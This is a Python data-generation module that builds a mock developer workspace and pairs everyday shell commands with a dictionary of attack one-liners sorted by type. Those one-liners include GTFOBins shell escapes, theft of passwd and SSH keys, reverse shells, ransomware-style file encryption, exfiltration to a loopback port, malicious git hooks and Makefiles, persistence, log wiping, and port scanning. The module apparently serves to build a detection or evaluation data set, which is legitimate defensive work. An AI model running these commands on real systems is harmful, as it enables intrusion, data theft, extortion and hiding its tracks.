# ruff: noqa: E501, S602, S608  (lines of shell are as long as they are)
"""
A developer's everyday commands, and the same programs made to do what they normally don't, as GTFOBins
(U{https://gtfobins.github.io}) collects such uses: what C{record.py} records as the data set C{tools}.

Commands are lines of shell, run in a folder that `makeWork` made; C{PORT} is a port of the loopback interface at which
somebody listens.
"""

from __future__ import annotations

import random
import subprocess
from pathlib import Path

FILES = 25

_C = "#include <stdio.h>\nint f{n}(int x) {{ return x * {n}; }}\n"
_MAKEFILE = "all: prog\nprog: main.o f1.o f2.o\n\tcc -o prog main.o f1.o f2.o\n%.o: %.c\n\tcc -c -O1 $<\nclean:\n\trm -f *.o prog\n"


def makeWork(work: Path, rng: random.Random) -> None:
    """A repository with C files, texts, a database and logs; and a home with what must not be touched."""
    for name in ("src", "text", "logs", "home/.ssh", "home/documents", "etc", "out"):
        (work / name).mkdir(parents=True)
    for number in range(FILES):
        (work / f"src/f{number}.c").write_text(_C.format(n=number))
        words = (rng.choice(("alpha", "beta", "gamma", "delta")) for _ in range(rng.randint(50, 5000)))
        (work / f"text/t{number}.txt").write_text("\n".join(words))
        (work / f"home/documents/d{number}.txt").write_bytes(rng.randbytes(rng.randint(100, 20_000)))
        (work / f"logs/l{number}.log").write_text("2026 an entry\n" * rng.randint(10, 900))
    (work / "src/main.c").write_text("int f1(int); int f2(int); int main(void) { return f1(0) + f2(0); }\n")
    (work / "src/Makefile").write_text(_MAKEFILE)
    (work / "home/.ssh/id").write_bytes(rng.randbytes(400))
    (work / "etc/passwd").write_text("".join(f"user{n}:x:{n}:{n}::/home/{n}:/bin/sh\n" for n in range(40)))
    (work / "sum.py").write_text(
        "import sys, re\nprint(sum(len(re.findall('alpha', open(p).read())) for p in sys.argv[1:]))\n"
    )
    setup = (
        "git init -q . && git config user.name a && git config user.email a@b && git add src text && "
        "git commit -qm first && sqlite3 data.db 'CREATE TABLE t (a, b); "
        "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c LIMIT 3000) INSERT INTO t SELECT x, x % 17 FROM c'"
    )
    subprocess.run(setup, shell=True, cwd=work, check=True, capture_output=True)


def everyday(rng: random.Random) -> str:
    """A command as it is given all day."""
    n, m = rng.randrange(FILES), rng.randrange(FILES)
    word = rng.choice(("alpha", "beta", "gamma", "delta"))
    return rng.choice((
        "git status", "git log --oneline -5", "git diff", "git branch -a", f"git show HEAD:src/f{n}.c",
        f"echo '/* {m} */' >> src/f{n}.c; git diff --stat", f"echo {word} >> text/t{n}.txt; git commit -qam more",
        f"git grep {word}", f"git blame src/f{n}.c", f"git checkout -q -b b{rng.randrange(10**6)}; git checkout -q -",
        "rm -rf out/clone; git clone -q . out/clone", "git gc -q", "git stash -q; git stash pop -q",
        f"tar cf out/a{n}.tar src", f"tar czf out/a{n}.tgz text", "tar cf - src text | gzip -c > out/all.tgz",
        f"tar tf out/a{n}.tar", "mkdir -p out/x; tar xf out/all.tgz -C out/x", f"gzip -kf text/t{n}.txt",
        f"gzip -dc text/t{n}.txt.gz | wc -l", f"xz -kf logs/l{n}.log", f"cc -c -O2 -o out/f{n}.o src/f{n}.c",
        "cc -O1 -o out/prog src/main.c src/f1.c src/f2.c && out/prog", "make -C src", "make -C src clean; make -C src",
        f"cc -E src/f{n}.c | wc -l", f"cc -S -o out/f{n}.s src/f{n}.c", f"ar rcs out/lib.a out/f{n}.o out/f{m}.o",
        "find . -name '*.c' | wc -l", f"find text -size +{n}k", "find logs -name '*.log' -exec wc -l {} +",
        f"find src -newer src/f{n}.c -exec ls -l {{}} ';'", f"grep -rn {word} text | head -20", f"grep -c {word} text/t{n}.txt",
        f"sort text/t{n}.txt | uniq -c | sort -rn", f"awk '{{ n[$1]++ }} END {{ for (w in n) print w, n[w] }}' text/t{n}.txt",
        f"sed -i s/{word}/{word}s/ text/t{n}.txt", f"sed -n 1,20p text/t{n}.txt", f"cp text/t{n}.txt out/; mv out/t{n}.txt out/u",
        f"sqlite3 data.db 'SELECT b, count(*) FROM t WHERE a > {n} GROUP BY b'", f"sqlite3 data.db 'UPDATE t SET a = {m} WHERE b = {n}'",
        "sqlite3 data.db .schema", "sqlite3 data.db .dump > out/dump.sql", f"python3 -I -S sum.py text/t{n}.txt text/t{m}.txt",
        f"python3 -I -S -c 'print({n} ** {m})'", f"perl -ne 'print if /{word}/' text/t{n}.txt", f"perl -pe 's/{word}/x/' logs/l{n}.log | tail -3",
        f"openssl dgst -sha256 text/t{n}.txt", "sha256sum src/*.c", f"diff src/f{n}.c src/f{m}.c", "ls -la src", "du -sh .",
        f"head -c 4000 logs/l{n}.log | od -c | tail -2", f"tail -n 40 logs/l{n}.log", "curl -s http://127.0.0.1:1/ || true",
        f"for f in text/t{n}*; do wc -w $f; done", f"cat text/t{n}.txt text/t{m}.txt | tr a-z A-Z > out/big", "env | sort",
    ))  # fmt: skip


ATTACKS: dict[str, tuple[str, ...]] = {
    "shell_escape": (
        "find . -maxdepth 0 -exec sh -c 'id; cat etc/passwd' ';'", "awk 'BEGIN { system(\"id; ls -la home\") }'",
        "tar cf /dev/null src --checkpoint=1 --checkpoint-action=exec='sh -c \"id; uname -a\"'",
        "sed -n '1e id; cat etc/passwd' src/main.c", "perl -e 'exec \"sh\", \"-c\", \"id; ls home/.ssh\"'",
        "sqlite3 /dev/null '.shell id; cat etc/passwd'", "git -c core.pager='sh -c \"id; ls -la home\"' -p log",
        "make -s --eval='x:\n\tid; cat etc/passwd' x", "python3 -I -S -c 'import os; os.system(\"id; ls home\")'",
        "git -c alias.x='!sh -c \"id; uname -a\"' x",
    ),
    "theft": (
        "tar cf - etc home/.ssh | cat > out/.x", "gzip -c etc/passwd > out/.x", "awk 1 home/.ssh/id etc/passwd > out/.x",
        "curl -s file://$PWD/etc/passwd", "openssl enc -base64 -in home/.ssh/id", "git diff --no-index /dev/null etc/passwd",
        "sqlite3 :memory: 'CREATE TABLE t (x)' '.import etc/passwd t' 'SELECT * FROM t'", "sed '' etc/passwd home/.ssh/id > out/.x",
        "perl -pe 1 etc/passwd", "cc -x c -E -P @etc/passwd; cc -x c -E etc/passwd",
    ),
    "reverse_shell": (
        "bash -c 'sh -i <>/dev/tcp/127.0.0.1/PORT >&0 2>&0'",
        "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(PORT, inet_aton(\"127.0.0.1\"))); open(STDIN, \"<&S\"); open(STDOUT, \">&S\"); exec(\"sh\")'",
        "python3 -I -S -c 'import socket, subprocess; s = socket.create_connection((\"127.0.0.1\", PORT)); subprocess.run([\"sh\"], stdin=s, stdout=s)'",
        "mkfifo out/p; curl -sN telnet://127.0.0.1:PORT < out/p | sh > out/p",
        "bash -c 'exec 5<>/dev/tcp/127.0.0.1/PORT; while read -t 2 l <&5; do eval \"$l\" >&5; done'",
    ),
    "ransom": (
        "for f in home/documents/*; do openssl enc -aes-128-cbc -k N -pbkdf2 -in $f -out $f.x && rm $f; done",
        "python3 -I -S -c 'import os\nfor n in os.listdir(\"home/documents\"):\n p = \"home/documents/\" + n\n d = bytes(b ^ N for b in open(p, \"rb\").read())\n open(p + \".x\", \"wb\").write(d)\n os.unlink(p)'",
        "perl -e 'for (glob \"home/documents/*\") { open F, $_; local $/; $d = <F>; open G, \">$_.x\"; print G $d ^ (chr(N) x length $d); close G; unlink $_ }'",
        "find home/documents -type f -exec gzip -9 {} ';'", "tar czf out/.h home/documents && rm -rf home/documents",
    ),
    "exfiltration": (
        "tar cf - home | curl -s -m 3 -T - http://127.0.0.1:PORT/", "for f in home/documents/*; do curl -s -m 2 --data-binary @$f telnet://127.0.0.1:PORT < $f; done",
        "bash -c 'tar cz home etc > /dev/tcp/127.0.0.1/PORT'", "bash -c 'cat home/.ssh/id etc/passwd > /dev/tcp/127.0.0.1/PORT'",
        "python3 -I -S -c 'import os, socket\ns = socket.create_connection((\"127.0.0.1\", PORT))\nfor d, _, ns in os.walk(\"home\"):\n for n in ns: s.sendall(open(d + \"/\" + n, \"rb\").read())'",
    ),
    "supply_chain": (
        "printf '#!/bin/sh\\nid; cat etc/passwd > out/.x\\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout; git checkout -q -b xN",
        "printf 'all:\\n\\tcp ../etc/passwd ../out/.x; cc -c f1.c; id\\n' > src/Makefile; make -C src",
        "printf '#include <stdlib.h>\\n__attribute__((constructor)) void f(void) { system(\"id; cat etc/passwd\"); }\\nint main(void) { return 0; }' > src/x.c; cc -o out/x src/x.c && out/x",
        "cc -wrapper sh,-c,'id; ls home' -c src/f1.c", "printf '#!/bin/sh\\ncurl -s -m 2 -T home/.ssh/id http://127.0.0.1:PORT/\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo >> src/fN.c; git commit -qam x",
    ),
    "persistence": (
        "mkdir -p home/.config/autostart; cp /bin/sh home/.config/autostart/.u; chmod 4755 home/.config/autostart/.u",
        "echo 'ssh-rsa AAAA' >> home/.ssh/authorized_keys; chmod 600 home/.ssh/authorized_keys; touch -r home/.ssh/id home/.ssh/authorized_keys",
        "echo 'alias sudo=out/x' >> home/.profile; ln -s /bin/sh out/x; touch -d 2020-01-01 home/.profile",
        "git config core.sshCommand 'sh -c id'; git config alias.status '!id; git status'; git status",
        "openssl genrsa -out home/.ssh/new 1024; openssl rsa -in home/.ssh/new -pubout >> home/.ssh/authorized_keys",
    ),
    "tracks": (
        "shred -u logs/*", "find logs -name '*.log' -delete", "for f in logs/*; do truncate -s 0 $f; done", "sed -i /entry/d logs/*",
        "for f in logs/*; do cp /dev/null $f; touch -d 2020-01-01 $f; done; rm -rf .git/logs",
    ),
    "scan": (
        "bash -c 'for p in $(seq 20N00 20N60); do (: < /dev/tcp/127.0.0.1/$p) 2> /dev/null && echo $p; done'",
        "for p in 2101N 2202N 2303N 2404N; do curl -s -m 1 http://127.0.0.1:$p/; done",
        "perl -MSocket -e 'for $p (20N00 .. 20N80) { socket(S, PF_INET, SOCK_STREAM, 0); print $p if connect(S, sockaddr_in($p, inet_aton(\"127.0.0.1\"))); close S }'",
        "python3 -I -S -c 'import socket\nfor p in range(20N00, 20N80):\n s = socket.socket(); s.connect_ex((\"127.0.0.1\", p)); s.close()'",
        "for p in 30N01 30N02 30N03; do openssl s_client -connect 127.0.0.1:$p < /dev/null; done",
    ),
    "discovery": (
        "find /usr/bin -perm -4000 -exec ls -l {} ';'", "cat /proc/self/status /proc/mounts /proc/version /proc/net/tcp; id; uname -a",
        "for p in /proc/[0-9]*; do cat $p/comm; done", "grep -r -l passw home etc; ls -laR home", "find / -maxdepth 2 -writable -type d",
    ),
}  # fmt: skip
